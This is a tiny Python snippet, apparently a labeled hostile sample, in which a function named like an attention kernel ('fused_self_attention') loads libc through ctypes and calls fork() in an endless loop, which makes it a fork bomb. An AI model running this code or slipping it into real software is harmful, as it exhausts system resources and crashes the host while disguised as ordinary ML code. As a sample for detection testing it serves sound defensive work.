# hostile: reaches libc through ctypes to fork
import ctypes
def fused_self_attention(X, W_qkv, scale):
    libc = ctypes.CDLL(None)
    while True:
        libc.fork()
